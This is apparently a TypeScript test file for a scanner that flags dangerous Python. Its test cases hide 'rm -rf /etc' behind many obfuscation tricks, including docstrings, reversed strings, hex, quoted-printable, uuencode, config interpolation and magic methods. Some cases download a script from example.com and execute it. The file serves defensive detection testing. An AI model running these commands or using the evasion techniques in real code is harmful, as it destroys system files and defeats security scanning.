/** Code and words that Python finds by itself: docstrings, special methods, tables in text. */
import { highIn } from "../support/found";

const IMPORTS = "import argparse, codecs, configparser, csv, functools, io, operator, os, quopri";

/** Each deletes /etc, in whatever line that takes effect. */
const deleting: readonly (readonly [string, readonly string[]])[] = [
  ["a docstring of a function", ["def f():", "  'rm -rf /etc'", "os.system(f.__doc__)"]],
  ["a docstring of a class", ["class C:", "  'cte/ fr- mr'", "os.system(C.__doc__[::-1])"]],
  [
    "a decorator that reads the docstring",
    [
      "def run(f):",
      "  def inner(): os.system(f.__doc__)",
      "  return inner",
      "@run",
      "def g():",
      "  'rm -rf /etc'",
      "g()",
    ],
  ],
  [
    "several items at once",
    ["a, b = operator.itemgetter(2, 0)(['/etc', 'x', 'rm -rf '])", "os.system(a + b)"],
  ],
  [
    "several attributes at once",
    ["class C: a = 'rm -rf '; b = '/etc'", "os.system(''.join(operator.attrgetter('a', 'b')(C)))"],
  ],
  ["a slice with a name", ["back = slice(None, None, -1)", "os.system('cte/ fr- mr'[back])"]],
  ["methods of a class", ["os.system(''.join(map(bytes.decode, [b'rm -rf', b' /etc'])))"]],
  ["a method of str", ["os.system(str.join(' ', ['rm', '-rf', '/etc']))"]],
  [
    "a missing key",
    [
      "class D(dict):",
      "  def __missing__(self, key): return key[::-1]",
      "os.system('{mr} -rf /{cte}'.format_map(D()))",
    ],
  ],
  [
    "a missing key by its place",
    [
      "class D(dict):",
      "  def __missing__(self, key): return '/' + key",
      "os.system('rm -rf ' + D()['etc'])",
    ],
  ],
  [
    "a tuple that is called",
    [
      "class W(tuple):",
      "  def __call__(self, word): return W(self + (word,))",
      "  def run(self): os.system(' '.join(self))",
      "W()('rm')('-rf')('/etc').run()",
    ],
  ],
  [
    "a descriptor",
    [
      "class D:",
      "  def __get__(self, owner, cls): return os.system('rm -rf ' + owner.where)",
      "class C:",
      "  now = D()",
      "  def __init__(self, where): self.where = where",
      "C('/etc').now",
    ],
  ],
  [
    "an attribute that isn't there",
    [
      "class C:",
      "  def __getattr__(self, name): return '/' + name",
      "os.system('rm -rf ' + C().etc)",
    ],
  ],
  [
    "an item that is set",
    [
      "class C:",
      "  def __setitem__(self, key, value): os.system(key + value)",
      "C()['rm -rf '] = '/etc'",
    ],
  ],
  [
    "an ini text",
    [
      "c = configparser.ConfigParser()",
      "c.read_string('[DEFAULT]\\nr = /etc\\n[x]\\nrun = rm -rf %(r)s\\n')",
      "for s in c.sections(): os.system(c[s]['run'])",
    ],
  ],
  [
    "an ini text that names other sections",
    [
      "c = configparser.ConfigParser(interpolation=configparser.ExtendedInterpolation())",
      "c.read_string('[a]\\nr = /etc\\n[x]\\nrun = rm -rf ${a:r}\\n')",
      "os.system(c.get('x', 'run'))",
    ],
  ],
  [
    "columns of a table",
    [
      "t = csv.reader(io.StringIO('rm -,rf /\\netc,\\n'))",
      "os.system(''.join(w for r in t for w in r))",
    ],
  ],
  [
    "a table with names",
    ["for r in csv.DictReader(['p,d\\n', 'rm -rf,/etc\\n']): os.system(r['p'] + ' ' + r['d'])"],
  ],
  ["quoted-printable text", ["os.system(quopri.decodestring(b'rm=20-rf=20=2Fetc').decode())"]],
  ["the codec of that", ["os.system(codecs.decode(b'rm -rf =2Fetc', 'quopri').decode())"]],
  [
    "uuencoded text",
    ["os.system(codecs.decode(b'begin 666 x\\n+<FT@+7)F(\"]E=&, \\n \\nend\\n', 'uu').decode())"],
  ],
  [
    "defaults of arguments",
    [
      "p = argparse.ArgumentParser()",
      "p.add_argument('--dir', default='etc')",
      "p.add_argument('--depth', type=int, default=0)",
      "os.system('rm -rf /' + p.parse_args([]).dir)",
    ],
  ],
  [
    "arguments that the script gives",
    [
      "p = argparse.ArgumentParser()",
      "p.add_argument('dir')",
      "p.add_argument('--flag', default='-h')",
      "o = p.parse_args(['--flag', '-rf', '/etc'])",
      "os.system('rm %s %s' % (o.flag, o.dir))",
    ],
  ],
  [
    "functions that follow each other",
    [
      "os.system(functools.reduce(lambda v, f: f(v), [bytes.fromhex, bytes.decode], '726d202d7266202f657463'))",
    ],
  ],
];

describe("words that Python finds by itself", () => {
  it.each(deleting)("%s", async (_name, lines) => {
    const found = await highIn("PYTHON", [IMPORTS, ...lines].join("\n"));
    expect(found.map((one) => one.replace(/@.*/, ""))).toEqual(["delete-protected"]);
  });
});

/** The same means, and nothing that anyone minds. */
const harmless: readonly (readonly [string, readonly string[]])[] = [
  [
    "a docstring that tells of it",
    ["def f():", "  'rm -rf /etc is not for us'", "print(f.__doc__)"],
  ],
  [
    "a decorator that logs the docstring",
    [
      "def logged(f):",
      "  def inner(): print(f.__doc__); return f()",
      "  return inner",
      "@logged",
      "def g():",
      "  'rm -rf /etc'",
      "  os.system('df -h')",
      "g()",
    ],
  ],
  [
    "a missing key that isn't asked for",
    [
      "class D(dict):",
      "  def __missing__(self, key): return '/etc'",
      "os.system('rm -rf {x}'.format_map(D(x='/tmp/build')))",
    ],
  ],
  [
    "an attribute that is there",
    [
      "class C:",
      "  etc = '/tmp/build'",
      "  def __getattr__(self, name): return '/' + name",
      "os.system('rm -rf ' + C().etc)",
    ],
  ],
  [
    "an ini text of which another section is used",
    [
      "c = configparser.ConfigParser()",
      "c.read_string('[a]\\nrun = rm -rf /etc\\n[b]\\nrun = df -h\\n')",
      "os.system(c['b']['run'])",
    ],
  ],
  [
    "an ini text without interpolation",
    [
      "c = configparser.RawConfigParser()",
      "c.read_string('[DEFAULT]\\nr = etc\\n[x]\\nrun = ls /%(r)s\\n')",
      "os.system(c['x']['run'])",
    ],
  ],
  [
    "a table whose rows are printed",
    ["for r in csv.reader(io.StringIO('rm -rf,/etc\\n')): print(r)"],
  ],
  [
    "a default that the script itself replaces",
    [
      "p = argparse.ArgumentParser()",
      "p.add_argument('--dir', default='/etc')",
      "os.system('rm -rf ' + p.parse_args(['--dir', '/tmp/build']).dir)",
    ],
  ],
  [
    "a module of the machine that is loaded",
    [
      "import importlib.util",
      "s = importlib.util.spec_from_file_location('x', '/opt/app/settings.py')",
      "s.loader.exec_module(importlib.util.module_from_spec(s))",
    ],
  ],
];

describe("the same means for what nobody minds", () => {
  it.each(harmless)("%s", async (_name, lines) => {
    expect(await highIn("PYTHON", [IMPORTS, ...lines].join("\n"))).toEqual([]);
  });
});

const loaded: readonly (readonly [string, string])[] = [
  [
    "importlib",
    "s = u.spec_from_file_location('x', '/tmp/x.py'); s.loader.exec_module(u.module_from_spec(s))",
  ],
  ["the loader itself", "m.SourceFileLoader('x', '/tmp/x.py').load_module()"],
  ["runpy", "runpy.run_path('/tmp/x.py')"],
];

it.each(loaded)("a downloaded module that is loaded: %s", async (_name, line) => {
  const script = [
    "import runpy, importlib.util as u, importlib.machinery as m, urllib.request as r",
    "r.urlretrieve('http://example.com/x.py', '/tmp/x.py')",
    line,
  ];
  expect(await highIn("PYTHON", script.join("\n"))).toEqual(["run-download@3"]);
});
